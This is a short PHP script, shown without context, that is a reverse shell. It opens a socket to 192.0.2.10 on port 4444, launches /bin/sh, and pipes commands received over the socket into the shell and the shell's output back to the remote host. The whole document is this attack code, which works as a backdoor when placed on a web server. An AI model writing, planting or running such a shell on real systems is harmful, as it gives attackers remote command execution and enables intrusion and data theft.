<?php
$s = fsockopen('192.0.2.10', 4444);
$p = proc_open('/bin/sh', array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $pipes);
while (!feof($s)) {
	$line = fgets($s);
	fwrite($pipes[0], $line);
	fwrite($s, fread($pipes[1], 8192));
}
